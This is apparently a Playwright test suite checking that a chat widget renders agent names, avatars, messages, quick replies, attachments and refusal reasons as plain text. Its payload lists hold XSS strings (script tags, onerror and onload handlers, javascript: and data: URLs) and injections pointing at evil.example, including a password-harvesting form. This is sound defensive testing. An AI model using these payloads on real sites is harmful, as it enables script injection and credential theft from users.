"""Whoever writes, and wherever it is drawn: names, pictures, choices and words run and restyle nothing."""

from __future__ import annotations

import re

import pytest
from playwright.async_api import expect

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

MARKUP = [
    "<img src=x onerror=window.hurt=1>",
    "<script>window.hurt=1</script>",
    "<style>*{display:none!important}</style>",
    '"><svg onload=window.hurt=1>',
    '[x](javascript:window.hurt=1) ![x](x" onerror="window.hurt=1)',
    "</span><link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe src=javascript:window.hurt=1></iframe><base href=https://evil.example/>",
    "</textarea><form action=https://evil.example/><input name=password autofocus>",
]
ADDRESSES = [
    "javascript:window.hurt=1",
    "JaVaScRiPt:window.hurt=1",
    "data:text/html,<script>window.hurt=1</script>",
    "vbscript:x",
    'x" onerror="window.hurt=1',
    'https://a.example/x.png"><script>window.hurt=1</script>',
]


async def is_unhurt(page) -> None:
    """Nothing ran, nothing was added to the page, and it looks as it did."""
    assert await page.evaluate("window.hurt") is None
    foreign = "script, style, link, iframe, base, form, object, embed, [onload], [onerror]"
    assert await page.get_by_role("log").locator(foreign).count() == 0
    await expect(page.locator("#text-input")).to_be_visible()
    outside = await page.locator("a[href], img[src]").evaluate_all(
        "all => all.map(e => e.getAttribute('href') || e.getAttribute('src'))"
    )
    assert not [
        address for address in outside if re.match("(javascript|vbscript|data:text)", address.strip(), re.I)
    ]


async def test_a_live_agents_name_is_text_wherever_it_stands(chat, server):
    for number, markup in enumerate(MARKUP):
        await server.push("handoff", {"state": "live", "name": markup})
        await expect(chat.partner).to_contain_text(markup)
        await server.push("typing", {"on": True, "name": markup})
        await expect(chat.page.locator(".name:visible").last).to_have_text(markup)
        await server.say(f"Hello {number}", "agent", name=markup)
        await expect(chat.spoken_by(f"Hello {number}")).to_have_text(markup)
        await is_unhurt(chat.page)


async def test_a_live_agents_picture_is_a_picture_or_none(chat, server, tolerated):
    tolerated += ["img-src", "a.example"]
    for number, address in enumerate(ADDRESSES):
        await server.say(f"Hello {number}", "agent", name=f"Dana {number}", avatar=address)
        await expect(chat.spoken_by(f"Hello {number}")).to_have_text(f"Dana {number}")
    await is_unhurt(chat.page)


@pytest.mark.parametrize("sender", ["agent", "system", "requester"])
async def test_words_are_text_whomever_they_come_from(chat, server, sender):
    for markup in MARKUP:
        await server.say(markup, sender)
    await chat.shows(*MARKUP)
    await is_unhurt(chat.page)


async def test_the_assistants_markdown_lets_no_markup_through(chat, server):
    """The assistant may repeat what a requester has said."""
    for number, markup in enumerate(MARKUP):
        await server.say(f"You said {number}: {markup}", "bot")
        await expect(chat.bubble(f"You said {number}:")).to_be_visible()
    await is_unhurt(chat.page)


async def test_ones_own_words_are_text_on_the_other_tab_too(open_chat, server):
    first, second = await open_chat(), await open_chat()
    for markup in MARKUP:
        await first.write(markup)
    for tab in (first, second):
        await expect(tab.mine).to_have_text(MARKUP)
        await is_unhurt(tab.page)


async def test_a_choice_is_text_and_sends_what_it_was_given(chat, server):
    for number, markup in enumerate(MARKUP, 1):
        replies = [{"content_type": "text", "title": markup, "payload": markup}]
        await server.say("Choose", quick_replies=replies)
        await expect(chat.replies).to_have_text(markup)
        await chat.replies.click()
        assert (await server.wait_for("user_uttered", number))[-1]["message"] == markup
    await expect(chat.mine).to_have_text(MARKUP)
    await is_unhurt(chat.page)


async def test_a_picture_or_file_of_the_assistant_runs_nothing(chat, server, tolerated):
    tolerated += ["img-src", "a.example"]
    for address in ADDRESSES:
        await server.say(attachment={"type": "image", "payload": {"src": address, "title": MARKUP[0]}})
        await server.say(attachment={"type": "file", "payload": {"src": address, "title": MARKUP[1]}})
    await server.say("after it")
    await expect(chat.bubble("after it")).to_be_visible()
    await is_unhurt(chat.page)


async def test_a_refusal_is_text(chat, server):
    server.acknowledge = lambda said: {
        "accepted": False,
        "message_id": said["message_id"],
        "reason": MARKUP[0],
    }
    await chat.write("hello")
    await expect(chat.alerts.first).to_contain_text(MARKUP[0])
    await is_unhurt(chat.page)
